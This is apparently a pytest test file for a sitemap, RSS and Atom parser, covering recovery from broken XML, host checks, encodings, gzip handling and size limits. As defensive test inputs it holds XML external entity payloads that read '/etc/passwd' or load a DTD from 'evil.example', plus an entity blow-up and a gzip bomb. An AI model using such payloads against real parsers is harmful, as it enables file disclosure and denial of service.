"""Sitemaps and feeds: what each form names, what is refused, and what a broken one still gives."""

from __future__ import annotations

import gzip
import zlib

import pytest

from streams.core.policy import ParseLimits
from streams.core.rules.sitemap_bytes import inflate
from streams.core.rules.sitemaps import Sitemap, read

SITE = "http://www.example.com"
LIMITS = ParseLimits()


def read_it(body: bytes | str, content_type: str = "application/xml", limits: ParseLimits = LIMITS) -> Sitemap:
    content = body.encode() if isinstance(body, str) else body
    return read(content, url=f"{SITE}/dir/sitemap.xml", content_type=content_type, limits=limits)


def urlset(*locs: str, before: str = "") -> str:
    urls = "".join(f"<url><loc>{loc}</loc></url>" for loc in locs)
    return f'{before}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'


def paths(sitemap: Sitemap) -> list[str]:
    """Entries then children, without the site's own scheme and host."""
    return [entry.url.removeprefix(SITE) for entry in sitemap.entries + sitemap.children]


def test_one_element_may_hold_several_locations() -> None:
    """Elements that were never closed run together: each loc is a URL, and a lastmod belongs to the loc before it."""
    sitemap = read_it(
        f"<sitemapindex><sitemap><loc>{SITE}/1</loc><lastmod>1970-01-02</lastmod>"
        f"<loc>{SITE}/2</loc><loc>{SITE}/3</loc><lastmod>1970-01-03</lastmod></sitemap></sitemapindex>"
    )
    assert sitemap.type == "index"
    dates = [(child.url, child.lastmod_ms) for child in sitemap.children]
    assert dates == [(f"{SITE}/1", 86_400_000), (f"{SITE}/2", None), (f"{SITE}/3", 172_800_000)]


@pytest.mark.parametrize(
    ("body", "expected", "errors"),
    [
        (urlset(SITE + "/a") + "</url>", ["/a"], {"not_well_formed"}),
        (urlset(SITE + "/a", before=" \n<?xml version='1.0'?>"), ["/a"], {"not_well_formed"}),
        (urlset(SITE + "/a", before="<b>Warning</b>: line 3 <?xml version='1.0'?>"), ["/a"], {"not_well_formed"}),
        (urlset(SITE + "/a")[: -len("</urlset>")], ["/a"], {"not_well_formed"}),
        (urlset(SITE + "/a") [: -len("</urlset>")] + f"<url><loc>{SITE}/cut", ["/a"], {"not_well_formed", "bad_loc"}),
        (urlset(SITE + "/a?x=1&y=2&copy=3"), ["/a?x=1&y=2&copy=3"], {"not_well_formed"}),
        (urlset(SITE + "/a&eacute;"), ["/a%C3%A9"], {"not_well_formed"}),
        (urlset(f"<![CDATA[{SITE}/a?x&y]]>", SITE + "/b?x&y"), ["/a?x&y", "/b?x&y"], {"not_well_formed"}),
        (f"<urlset><url><loc>{SITE}/a</loc><url><loc>{SITE}/b</loc></url></urlset>", ["/a", "/b"], {"not_well_formed"}),
        (urlset(f" \n{SITE}/a\u00a0\n"), ["/a"], set()),
        (urlset(f"{SITE}/<!-- no -->a"), ["/a"], set()),
    ],
)  # fmt: skip
def test_what_is_not_xml_still_gives_what_can_be_read(body: str, expected: list[str], errors: set[str]) -> None:
    """Broken documents are mended as far as that is certain; a location that was cut is never taken for whole."""
    sitemap = read_it(body)
    assert paths(sitemap) == expected
    assert set(sitemap.errors) >= errors
    assert ("not_well_formed" in sitemap.errors) == ("not_well_formed" in errors)


@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY a "aaaa">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;',
        '<!-- "]> --><!ENTITY a "b">',
    ],
)
def test_documents_with_entities_of_their_own_are_refused(declaration: str) -> None:
    """Blow-ups and file inclusion need a declared entity; no parser is shown a document that declares one."""
    sitemap = read_it(urlset(SITE + "/a", "&a;", before=f"<!DOCTYPE urlset [{declaration}]>"))
    assert sitemap == Sitemap("refused", errors=("entity_expansion",))


def test_a_doctype_without_entities_is_harmless() -> None:
    """RSS 0.91 begins with a DOCTYPE whose DTD is never fetched; HTML's characters in it are read all the same."""
    sitemap = read_it(
        '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">'
        f'<rss version="0.91"><channel><link>{SITE}/</link><item><link>{SITE}/&eacute;</link></item></channel></rss>'
    )
    assert (sitemap.type, paths(sitemap), sitemap.errors) == ("rss", ["/%C3%A9"], ())


def test_rss_items_have_a_link_or_a_permalink() -> None:
    """Of an item the link counts, else the guid unless it says it is none; relative links are the feed's."""
    sitemap = read_it(
        f"<rss version='2.0'><channel><link>{SITE}/</link>"
        "<item><link> /1 </link><pubDate>Fri, 02 Jan 1970 01:00:00 +0100</pubDate></item>"
        f"<item><guid>{SITE}/2</guid></item>"
        f"<item><guid isPermaLink='false'>{SITE}/3</guid></item>"
        f"<item><link/><guid>tag:x</guid></item>"
        "</channel></rss>"
    )
    assert paths(sitemap) == ["/1", "/2"]
    assert sitemap.entries[0].lastmod_ms == 86_400_000
    assert sitemap.errors == ("bad_loc",)


def test_atom_entries_have_alternates_relative_to_their_base() -> None:
    """Only alternates are pages; xml:base adds up from the feed's URL to the link (RFC 4287 section 2)."""
    sitemap = read_it(
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="/blog/"><link href="/"/>'
        '<entry><link rel="edit" href="e"/><link rel="alternate" href="1"/><updated>1970-01-02T00:00:00Z</updated>'
        "<published>1970-01-01T00:00:00Z</published></entry>"
        '<entry xml:base="deep/"><link href="2"/></entry>'
        '<entry><link rel="alternate" type="application/pdf" href="3.pdf"/><link type="text/html" href="3"/></entry>'
        '<entry xml:base="http://["><link href="/4" xml:base="http://["/></entry>'
        "<entry><id>urn:uuid:5</id></entry></feed>"
    )
    assert (sitemap.type, paths(sitemap)) == ("atom", ["/blog/1", "/blog/deep/2", "/blog/3", "/4"])
    assert sitemap.entries[0].lastmod_ms == 86_400_000
    assert sitemap.errors == ("bad_loc",)


@pytest.mark.parametrize(
    ("loc", "error"),
    [
        ("https://www.example.com/", "cross_host"),
        ("http://example.com/", "cross_host"),
        ("http://www.example.com:81/", "cross_host"),
        ("/relative", "bad_loc"),
        ("//www.example.com/relative", "bad_loc"),
        ("ftp://www.example.com/", "bad_loc"),
        ("", "bad_loc"),
        (f"{SITE}/{'a' * 5000}", "bad_loc"),
    ],
)
def test_a_sitemap_speaks_for_its_own_host_only(loc: str, error: str) -> None:
    """What is not an absolute URL of the same scheme and host, by the letter, is reported and never used."""
    sitemap = read_it(urlset(loc, SITE + "/own"))
    assert (paths(sitemap), sitemap.errors) == (["/own"], (error,))


def test_another_host_is_trusted_when_its_robots_txt_says_so() -> None:
    """Cross submits: hosts passed in as trusted are admitted, others still are not."""
    body = urlset("http://b.example/1", "http://c.example/1").encode()
    trusted = frozenset({"http://b.example"})
    sitemap = read(body, url=f"{SITE}/s.xml", content_type=None, limits=LIMITS, trusted_hosts=trusted)
    assert [entry.url for entry in sitemap.entries] == ["http://b.example/1"]


@pytest.mark.parametrize(
    ("encode", "content_type"),
    [
        (lambda text: text.encode("utf-16"), "application/xml"),
        (lambda text: text.encode("utf-16-be"), "application/xml"),
        (lambda text: ('<?xml version="1.0" encoding="utf-16"?>' + text).encode(), "application/xml"),
        (lambda text: ('<?xml version="1.0" encoding="ISO-8859-1"?>' + text).encode("latin-1"), "text/xml"),
        (lambda text: text.encode("latin-1"), "text/xml; charset='iso-8859-1'"),
        (lambda text: b"\xef\xbb\xbf" + text.encode(), "text/xml; charset=iso-8859-1"),
        (lambda text: text.encode(), "text/xml; charset=utf-7"),
    ],
)
def test_the_encoding_is_what_mark_header_and_declaration_say(encode, content_type: str) -> None:  # type: ignore[no-untyped-def]
    """RFC 7303: byte order mark, then the header's charset, then the declaration, each only where it can be true."""
    sitemap = read_it(encode(urlset(SITE + "/é")), content_type)
    assert (paths(sitemap), sitemap.errors) == (["/%C3%A9"], ())


def test_a_character_that_is_lost_names_no_page() -> None:
    """Bytes that are not in the document's encoding give an error, not a URL with a replacement character."""
    sitemap = read_it(urlset(SITE + "/é", SITE + "/ok").encode("latin-1"))
    assert (paths(sitemap), set(sitemap.errors)) == (["/ok"], {"not_well_formed", "bad_loc"})


def test_text_has_one_url_a_line() -> None:
    """Line ends of all kinds, blanks around URLs, lines that are none; a text of such lines only is no sitemap."""
    sitemap = read_it(f"\ufeff{SITE}/1\r\n\n  {SITE}/2 \r{SITE}/3\nwww.example.com/4\n{'x' * 9000}", "text/plain")
    assert (sitemap.type, paths(sitemap), sitemap.errors) == ("text", ["/1", "/2", "/3"], ("bad_loc",))
    for body in ("", " \n", "no URL here\nnor here", '{"a": 1}', "\x00\x01\x02"):
        assert read_it(body, "text/plain") == Sitemap("invalid", errors=("not_a_sitemap",))


def test_html_is_no_sitemap() -> None:
    """A page served in a sitemap's place names nothing, whatever its type says and whatever it quotes."""
    for body in ("<!DOCTYPE html><html><p><urlset></html>", "<html><urlset></urlset></html>", "<opml/>", "<"):
        assert read_it(body).type == "invalid"


def test_gzip_is_known_by_its_magic_number_and_read_to_its_end() -> None:
    """Members add up, what follows them does not count, and a broken end keeps the beginning."""
    plain = urlset(*(f"{SITE}/{n}" for n in range(100))).encode()
    packed = gzip.compress(plain)
    assert len(read_it(packed).entries) == 100
    assert len(read_it(gzip.compress(packed)).entries) == 100
    assert len(read_it(gzip.compress(plain[:70]) + gzip.compress(plain[70:])).entries) == 100
    trailing = read_it(packed + b"<!-- cached -->")
    assert (len(trailing.entries), trailing.errors) == (100, ("trailing_data",))
    cut = read_it(packed[:-40])
    assert 0 < len(cut.entries) < 100
    assert "truncated" in cut.errors
    corrupt = read_it(packed[:-8] + b"\x00" * 8)
    assert (len(corrupt.entries), corrupt.errors) == (100, ("corrupt_gzip",))


def test_inflating_holds_no_more_than_the_bound() -> None:
    """A bomb is left at the limit: 1 GiB of zeros gives one bounded buffer and the word too_large."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    content = inflate(bomb, bytes_max=1_000_000)
    assert (len(content.data), content.errors) == (1_000_000, ("too_large",))


def test_too_large_is_cut_and_an_attack_refused() -> None:
    """Over the limit the beginning counts; what gave nothing until there, or was packed absurdly well, is refused."""
    limits = ParseLimits(sitemap_bytes_max=10_000)
    big = urlset(*(f"{SITE}/{n}" for n in range(1000)))
    sitemap = read_it(big, limits=limits)
    assert sitemap.type == "urlset"
    assert sitemap.errors[0] == "too_large"
    assert "not_well_formed" not in sitemap.errors  # it was we who cut it
    assert paths(sitemap) == [f"/{n}" for n in range(len(sitemap.entries))]
    assert 100 < len(sitemap.entries) < 1000
    assert read_it(f"<urlset><!--{' ' * 20_000}--></urlset>", limits=limits).type == "refused"
    packed = gzip.compress(urlset(SITE + "/a", before=" " * 20_000_000).encode())
    assert read_it(packed, limits=ParseLimits(sitemap_bytes_max=10_000_000)).type == "refused"


def test_urls_beyond_the_limit_are_left() -> None:
    """The first so many URLs count, bad ones included, and the excess is reported."""
    sitemap = read_it(urlset(SITE + "/1", "bad", SITE + "/3", SITE + "/4"), limits=ParseLimits(sitemap_urls_max=3))
    assert (paths(sitemap), sitemap.errors) == (["/1", "/3"], ("bad_loc", "too_many_urls"))


def test_names_are_compared_leniently_but_not_across_extensions() -> None:
    """Any or no namespace, any prefix and upper case will do; an image's location is not its page's."""
    for body in (
        f'<s:urlset xmlns:s="urn:x"><s:url><s:loc>{SITE}/a</s:loc></s:url></s:urlset>',
        f"<URLSET><URL><LOC>{SITE}/a</LOC></URL></URLSET>",
        f'<urlset xmlns="http://www.google.com/schemas/sitemap/0.84"><url><loc>{SITE}/a</loc></url></urlset>',
    ):
        assert paths(read_it(body)) == ["/a"]
    image = (
        '<urlset xmlns:i="http://www.google.com/schemas/sitemap-image/1.1"><url>'
        f"<i:image><i:loc>{SITE}/i.jpg</i:loc></i:image><i:loc>{SITE}/j.jpg</i:loc></url></urlset>"
    )
    assert read_it(image) == Sitemap("urlset")


def test_unclosed_entries_are_taken_out_of_the_tree_with_care() -> None:
    """The parser runs ahead of the reader: what it is still at work on stays in the tree, or memory is corrupted."""
    for middle in ("<url>", f"<url><loc>{SITE}/x</loc>", "<sitemap>", "<url/><url>"):
        body = f"<urlset><url><loc>{SITE}/0</loc>" + (f"{middle}<url><loc>{SITE}/1</loc></url>" * 40) + "<url><loc>"
        assert paths(read_it(body))[0] == "/0"
        assert paths(read_it(body)).count("/1") == 40
    # Taking away what stands behind made a cycle of the tree here, and freeing it never ended.
    assert (
        paths(
            read_it(
                f"<urlset><url><url><loc></x></url>{SITE}/a<urlset><x>{SITE}/a{SITE}/a</url><url><url><url><url>",
            )
        )
        == []
    )
